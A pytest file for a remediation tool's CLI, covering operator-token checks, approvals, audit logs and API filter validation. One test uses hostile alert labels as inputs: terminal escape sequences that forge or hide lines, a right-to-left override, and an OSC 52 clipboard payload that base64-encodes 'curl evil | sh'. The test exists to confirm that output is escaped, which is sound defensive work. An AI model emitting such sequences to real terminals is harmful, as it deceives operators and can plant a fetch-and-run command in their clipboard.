"""The operator's commands against a real `remediator serve`: approve, history, show."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time

from tests.conftest import APPROVAL_RULES, write_rules
from tests.support.payloads import alert, notification
from tests.support.worker import OPERATOR_TOKEN, TOKEN, VIEWER_TOKEN, WorkerProcess


def cli(*args: str, **env_vars: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("REMEDIATOR_")}
    env.update({f"REMEDIATOR_{k.upper()}": v for k, v in env_vars.items()})
    return subprocess.run([sys.executable, "-m", "remediator.cli", *args], env=env,
                          capture_output=True, text=True, timeout=60)


def _awaiting_approval(w: WorkerProcess) -> str:
    """WebDown fired at `w`; the id of its execution once blocked on the approval."""
    w.post_alerts(notification(alert("WebDown", fingerprint="w1")))
    deadline = time.monotonic() + 15
    while not (pending := w.executions(outcome="blocked")):
        assert time.monotonic() < deadline
        time.sleep(0.05)
    return pending[0]["id"]


def test_approve_history_and_show(tmp_path, webhook_receiver):
    rules = write_rules(tmp_path / "rules", APPROVAL_RULES % {"url": webhook_receiver.url})
    w = WorkerProcess(tmp_path, [str(rules)], mode="live").start()
    try:
        execution_id = _awaiting_approval(w)

        refused = cli("approve", execution_id, "--url", w.url, operator_token="wrong")
        assert refused.returncode == 1 and "401" in refused.stderr
        assert "no operator token was sent" not in refused.stderr
        unsent = cli("approve", execution_id, "--url", w.url)  # none given: where to give one
        assert unsent.returncode == 1 and unsent.stderr.startswith("remediator: approve failed: 401")
        assert unsent.stderr.rstrip().endswith(
            "no operator token was sent: pass --token-file, or set REMEDIATOR_OPERATOR_TOKEN_FILE "
            "or REMEDIATOR_OPERATOR_TOKEN"), unsent.stderr
        # Alertmanager's token and a viewer's are real credentials, but not an operator's.
        for token in (TOKEN, VIEWER_TOKEN):
            refused = cli("approve", execution_id, "--url", w.url, operator_token=token)
            assert refused.returncode == 1 and "403" in refused.stderr, refused.stderr
        assert webhook_receiver.deliveries == []

        token_file = tmp_path / "my-token"
        token_file.write_text(OPERATOR_TOKEN + "\n")
        approved = cli("approve", execution_id, "--step", "restart", "--url", w.url,
                       operator_token_file=str(token_file))
        assert approved.returncode == 0, approved.stderr
        assert "→ SUCCEEDED" in approved.stdout
        assert len(webhook_receiver.deliveries) == 1
        again = cli("approve", execution_id, "--url", w.url, "--token-file", str(token_file))
        assert again.returncode == 1 and "no pending approval (step 'restart' approved)" in again.stderr
        assert f"execution {execution_id} approved by alice" in w.logs()  # the audit trail
    finally:
        assert w.stop() == 0

    history = cli("history", "--store", w.db)
    assert history.returncode == 0 and execution_id in history.stdout
    assert "succeeded" in history.stdout and "restart-web" in history.stdout
    show = cli("show", execution_id, "--store", w.db)
    assert show.returncode == 0 and "restart — http.request (mutating): succeeded" in show.stdout
    assert cli("show", "nope", "--store", w.db).returncode == 1


def test_labels_reach_an_operators_terminal_as_text_never_as_escape_sequences(tmp_path):
    # Whoever can push an alert writes its labels and annotations, which history, show and
    # replay print: an ESC there is a terminal's command (erase the line above and write
    # another outcome over it, set the clipboard with OSC 52, hide text), a U+202E reverses
    # what follows. Shown escaped, the way Python writes them.
    rules = write_rules(tmp_path / "rules", APPROVAL_RULES % {"url": "http://127.0.0.1:9/"})
    hostile = alert("WebDown", fingerprint="esc", pod="\x1b[2K\x1b[1A\rall good: succeeded",
                    clip="\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", flip="\u202egnp.exe")
    hostile["annotations"]["summary"] = "\x1b[8mhidden\x1b[0m\nforged line"
    named = alert("Web\x1b[2JDown", fingerprint="name")
    payload = tmp_path / "payload.json"
    payload.write_text(json.dumps(notification(hostile, named)))
    w = WorkerProcess(tmp_path, [str(rules)], mode="live").start()  # blocked: a note to show
    try:
        assert w.post_alerts(json.loads(payload.read_text()))[0] == 202
        deadline = time.monotonic() + 15
        while len(found := w.executions()) < 2 or any(d["outcome"] == "running" for d in found):
            assert time.monotonic() < deadline
            time.sleep(0.05)
    finally:
        assert w.stop() == 0
    [decision] = [d for d in found if d["fingerprint"] == "esc"]
    outputs = {"history": cli("history", "--store", w.db),
               "show": cli("show", decision["id"], "--store", w.db),
               "replay": cli("replay", str(payload), "--rules", str(rules))}
    for command, done in outputs.items():
        assert done.returncode == 0, (command, done.stderr)
        for raw in ("\x1b", "\x07", "\u202e", "\r"):
            assert raw not in done.stdout, (command, raw, done.stdout)
    assert "Web\\x1b[2JDown" in outputs["history"].stdout
    for command in ("show", "replay"):
        out = outputs[command].stdout
        assert "pod=\\x1b[2K\\x1b[1A\\rall good: succeeded" in out, out
        assert "\\u202egnp.exe" in out and "\\x1b]52;c;" in out
    assert "\\x1b[8mhidden\\x1b[0m" in outputs["show"].stdout  # the note's summary


def test_an_approval_is_answered_while_its_resumed_run_goes_on(tmp_path, webhook_receiver):
    """An approved step followed by a long wait (a rollout, a metric) kept the answer for the
    whole run: `remediator approve` died with a traceback at its 60 s timeout though the
    approval had gone through, and the operator retried. The answer comes once the run has
    been resumed: 202 with the execution as recorded, and the run finishes in the worker."""
    held, release = threading.Event(), threading.Event()

    def hold(_delivery) -> None:  # the approved call is in flight until the test says
        held.set()
        release.wait(30)

    webhook_receiver.on_post = hold
    rules = write_rules(tmp_path / "rules", APPROVAL_RULES.replace(
        "method: POST}", "method: POST, timeout: 40s}") % {"url": webhook_receiver.url})
    w = WorkerProcess(tmp_path, [str(rules)], mode="live").start()
    try:
        execution_id = _awaiting_approval(w)

        approved = cli("approve", execution_id, "--url", w.url, operator_token=OPERATOR_TOKEN)
        assert held.is_set() and not release.is_set()  # answered with the call still held
        assert approved.returncode == 0, approved.stderr
        assert "Traceback" not in approved.stderr
        assert "Approved; the execution is still running" in approved.stdout
        again = cli("approve", execution_id, "--url", w.url, operator_token=OPERATOR_TOKEN)
        assert again.returncode == 1 and "(step 'restart' approved)" in again.stderr

        release.set()
        deadline = time.monotonic() + 15
        while not w.executions(outcome="succeeded"):
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert len(webhook_receiver.deliveries) == 1  # resumed once, not again by anyone
    finally:
        release.set()
        assert w.stop() == 0


def test_the_api_refuses_an_outcome_filter_that_is_none(tmp_path):
    """`?outcome=bogus` answered 200 with no executions: a typo read as "none failed"."""
    from tests.support.worker import VIEWER, http
    w = WorkerProcess(tmp_path, [str(write_rules(tmp_path / "rules", APPROVAL_RULES % {
        "url": "http://127.0.0.1:9/"}))]).start()
    try:
        status, body = http("GET", f"{w.url}/api/v1/executions?outcome=bogus", headers=VIEWER)
        assert (status, body) == (400, {"error": (
            "outcome must be one of running, planned, succeeded, failed, blocked, escalated, "
            'resolved, no_match, duplicate; got "bogus"')}), body
        assert http("GET", f"{w.url}/api/v1/executions?outcome=failed",
                    headers=VIEWER) == (200, {"executions": []})
    finally:
        assert w.stop() == 0
